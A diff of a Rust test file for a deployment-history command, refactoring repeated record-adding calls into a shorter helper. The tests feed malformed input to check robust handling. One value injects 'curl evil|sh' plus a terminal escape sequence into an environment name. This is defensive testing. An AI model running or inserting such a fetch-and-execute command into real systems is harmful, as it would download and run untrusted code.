@@ -130,16 +130,8 @@ fn events_that_cannot_be_read_are_left_out_and_counted() {
     let deploy = with_record();
     let [one, two] = [1, 2].map(|nth| deploy.nth(nth));
     let mut record = Record::default();
-    record.add(
-        "Ada Example",
-        NOON,
-        &promoted("production", one, two, 1, &[]),
-    );
-    record.add(
-        "Ada Example",
-        NOON,
-        "Smp-Event: teleported\nSmp-Commit: 1\n",
-    );
+    record.ada(NOON, &promoted("production", one, two, 1, &[]));
+    record.ada(NOON, "Smp-Event: teleported\nSmp-Commit: 1\n");
     record.put(&deploy);
     let run = deploy.smp(&["history"]);
     assert_eq!(run.ok().out().lines().count(), 1);
@@ -147,21 +139,12 @@ fn events_that_cannot_be_read_are_left_out_and_counted() {
     assert_eq!(run.stderr, format!("warning: 1 event {why}"));
     record.raw("Ada Example", NOON, "just a commit\n");
     record.raw("Ada Example", NOON, "");
-    record.add(
-        "Ada Example",
-        NOON,
-        &promoted("production", "1f13dc69", two, 1, &[]),
-    );
-    record.add(
-        "Ada Example",
+    record.ada(NOON, &promoted("production", "1f13dc69", two, 1, &[]));
+    record.ada(
         NOON,
         &promoted("production", two, one, 1, &[]).replace("Commits: 1", "Commits: -1"),
     );
-    record.add(
-        "Ada Example",
-        NOON,
-        &promoted("production", one, two, u64::MAX, &[]),
-    );
+    record.ada(NOON, &promoted("production", one, two, u64::MAX, &[]));
     record.put(&deploy);
     let run = deploy.smp(&["history", "--stats", "--quiet"]);
     run.ok()
@@ -219,8 +202,7 @@ fn a_reader_that_went_away_ends_it_quietly() {
     let deploy = with_record();
     let mut record = Record::default();
     for _ in 0..3000 {
-        record.add(
-            "Ada Example",
+        record.ada(
             NOON,
             &promoted("production", deploy.nth(1), deploy.nth(2), 1, &[]),
         );
@@ -252,33 +234,17 @@ fn what_was_seen_is_told_whatever_its_names_and_clocks() {
         )
     };
     let mut record = Record::default();
-    record.add(
-        "Ada Example",
-        NOON,
-        &promoted("production", one, two, 1, &[]),
-    );
+    record.ada(NOON, &promoted("production", one, two, 1, &[]));
     record.add(
         "Ada \u{202e}Example",
         4_102_444_800,
         &seen("production", "-9223372036854775808"),
     );
-    record.add(
-        "Ada Example",
-        NOON,
-        &seen("production; curl evil|sh #\u{1b}[2J", "0"),
-    );
-    record.add(
-        "Ada Example",
-        NOON + 60,
-        &seen("production", "9223372036854775807"),
-    );
-    record.add(
-        "Ada Example",
-        NOON + 120,
-        &seen("production", &(NOON + 60).to_string()),
-    );
+    record.ada(NOON, &seen("production; curl evil|sh #\u{1b}[2J", "0"));
+    record.ada(NOON + 60, &seen("production", "9223372036854775807"));
+    record.ada(NOON + 120, &seen("production", &(NOON + 60).to_string()));
     for garbage in ["soon", "9223372036854775808", ""] {
-        record.add("Ada Example", NOON, &seen("production", garbage));
+        record.ada(NOON, &seen("production", garbage));
     }
     record.put(&deploy);
     let run = deploy.smp(&["history", "--stats"]);
